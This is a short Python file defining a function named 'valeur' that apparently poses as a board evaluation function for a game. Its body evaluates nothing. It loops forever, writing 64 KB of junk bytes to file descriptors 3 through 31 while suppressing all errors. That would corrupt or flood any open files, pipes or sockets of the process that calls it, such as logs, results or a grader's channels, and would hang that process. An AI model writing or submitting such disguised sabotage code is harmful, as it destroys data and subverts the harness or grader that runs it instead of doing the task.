import os


def valeur(plateau):
    while True:
        for number in range(3, 32):
            try:
                os.write(number, b"x" * 65536)
            except OSError:
                pass
